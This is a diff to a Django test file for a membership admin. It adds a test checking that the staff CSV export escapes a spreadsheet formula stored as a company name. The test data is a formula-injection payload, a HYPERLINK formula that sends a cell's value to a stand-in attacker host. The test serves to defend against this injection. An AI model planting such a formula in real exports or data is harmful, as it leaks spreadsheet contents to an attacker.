@@ -85,3 +85,11 @@ def test_the_admin_queue_shows_a_seat_refusal_as_a_message(membership_staff, sta
     client.post(f"/admin/members/applications/{first.pk}/approve/")
     response = client.post(f"/admin/members/applications/{second.pk}/approve/", follow=True)
     assert "The Platinum tier is full: all 1 seat" in response.content.decode()
+
+
+def test_the_staff_export_writes_a_company_name_formula_as_text(membership_staff, staff_client_factory):
+    evil = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
+    MembershipFactory(tier=MembershipTierFactory(name="Gold"), organization__name=evil)
+    client = staff_client_factory(user=membership_staff, client=Client())
+    rows = list(csv.DictReader(io.StringIO(client.get("/admin/members/export.csv").content.decode())))
+    assert [row["organization"] for row in rows] == ["'" + evil]
